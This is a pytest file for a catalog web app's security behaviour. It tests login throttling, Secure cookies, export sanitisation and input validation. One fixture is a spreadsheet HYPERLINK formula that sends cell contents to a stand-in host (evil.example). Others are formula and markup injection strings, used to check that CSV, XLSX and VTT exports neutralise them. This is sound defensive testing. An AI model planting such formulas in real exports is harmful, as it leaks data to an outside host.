"""Sign-in throttling, Secure cookies, exports that cannot carry formulas or markup, and
query parameters and descriptions that are checked before they are used."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from catalog.db import get_engine
from catalog.models import Event, Item, Segment
from configs import get_settings
from tests.web.conftest import PASSWORD, Browser, Seeded
from web.app import create_app

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def _try(browser: Browser, name: str, password: str):  # type: ignore[no-untyped-def]
    form = browser.get("/login").text
    token = re.search(r'name="csrf_token" value="([^"]+)"', form)[1]  # type: ignore[index]
    return browser.post(
        "/login", data={"username": name, "password": password, "csrf_token": token}, follow_redirects=False
    )


def test_sign_in_backs_off_after_failed_attempts(seeded: Seeded) -> None:
    from web.throttle import SignInThrottle

    app = create_app()
    settings = get_settings()
    clock = [1000.0]  # the throttle's clock, moved by the test instead of sleeping
    app.state.sign_in_throttle = SignInThrottle(
        free=settings.web.login_free_attempts, cap=settings.web.login_max_lockout, slots=2,
        clock=lambda: clock[0],
    )  # fmt: skip
    browser = Browser(app)
    free = settings.web.login_free_attempts
    for _ in range(free):
        assert _try(browser, "ed", "wrong password!").status_code == 401
    locked = _try(browser, "ed", "wrong password!")
    assert locked.status_code == 429 and locked.headers["Retry-After"] == "1"
    assert "too many failed sign-ins" in locked.text
    # while locked, even the right password is not checked
    assert _try(browser, "ed", PASSWORD).status_code == 429
    # the same client address is locked for other accounts too
    assert _try(browser, "eve", PASSWORD).status_code == 429
    with Session(get_engine(get_settings().db_url)) as s:
        lockouts = s.exec(select(Event).where(Event.type == "sign-in lockout")).all()
        assert [e.agent for e in lockouts] == ["ed"] and lockouts[0].detail["seconds"] == 1
    clock[0] += 0.9
    assert _try(browser, "ed", PASSWORD).status_code == 429  # not yet
    clock[0] += 0.2  # the first back-off is one second: the next failure doubles it
    again = _try(browser, "ed", "wrong again!!")
    assert again.status_code == 429 and again.headers["Retry-After"] == "2"
    clock[0] += 1.9
    assert _try(browser, "ed", PASSWORD).status_code == 429
    clock[0] += 0.2
    assert _try(browser, "ed", PASSWORD).status_code == 303


def test_cookies_are_secure_on_https(seeded: Seeded, monkeypatch: pytest.MonkeyPatch) -> None:
    https = Browser(create_app(), base_url="https://testserver")
    page = https.get("/login")
    assert "secure" in page.headers["set-cookie"].lower()
    r = _try(https, "ed", PASSWORD)
    assert r.status_code == 303 and "secure" in r.headers["set-cookie"].lower()
    public = https.get(f"/public/items/{seeded.scan}")
    assert "secure" in public.headers["set-cookie"].lower()  # the public CSRF cookie too
    plain = Browser(create_app())
    assert "secure" not in plain.get("/login").headers["set-cookie"].lower()
    monkeypatch.setenv("LANTAI_WEB__SECURE_COOKIES", "true")
    get_settings.cache_clear()
    assert "secure" in Browser(create_app()).get("/login").headers["set-cookie"].lower()


def test_exports_carry_no_formulas_or_markup(clients: dict[str, Browser], seeded: Seeded) -> None:
    with Session(get_engine(get_settings().db_url)) as s:
        item = s.get(Item, seeded.scan)
        assert item is not None
        item.title, item.notes = FORMULA, "@SUM(1+1)"
        s.add(item)
        seg = s.get(Segment, seeded.segments[0])
        assert seg is not None
        seg.text, seg.speaker = "A & B <c.loud>说</c> --> 下一条", "王<b>"
        s.add(seg)
        s.commit()
    ed = clients["ed"]
    body = ed.get("/collections/ORAL/export/csv").content.decode("utf-8-sig")
    rows = {r[1]: r for r in csv.reader(io.StringIO(body))}
    row = rows["J001-WS·2015·Y-001"]
    assert row[4] == "'" + FORMULA and row[8] == "'@SUM(1+1)"
    book = load_workbook(io.BytesIO(ed.get("/collections/ORAL/export/xlsx").content))
    cells = [
        c for r in book.active.iter_rows() for c in r if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
    vtt = ed.get(f"/items/{seeded.recording}/export/vtt").text
    assert "<v 王&lt;b&gt;>A &amp; B &lt;c.loud&gt;说&lt;/c&gt; --&gt; 下一条" in vtt
    assert vtt.count("-->") == 3  # only the cue timings


def test_bad_parameters_are_refused_with_a_message(clients: dict[str, Browser], seeded: Seeded) -> None:
    public = Browser(create_app())
    for query in ("year=²", "year=19５8", "year=-1", "kind=<x>", "year=99999"):
        r = public.get(f"/public/search?q=电话&{query}")
        assert r.status_code == 422, (query, r.status_code)
    ed = clients["ed"]
    assert ed.get("/api/search?q=x&year_from=abc").status_code == 422
    with Session(get_engine(get_settings().db_url)) as s:
        version = s.get(Item, seeded.scan).version  # type: ignore[union-attr]
    r = ed.api("PATCH", f"/api/items/{seeded.scan}", {"version": version, "title": "标题\x1b[2J\x07"})
    assert r.status_code == 422 and "control character" in r.text
    r = ed.api("PATCH", f"/api/items/{seeded.scan}", {"version": version, "abstract": "第一段\n第二段"})
    assert r.status_code == 200  # line breaks are fine in the abstract
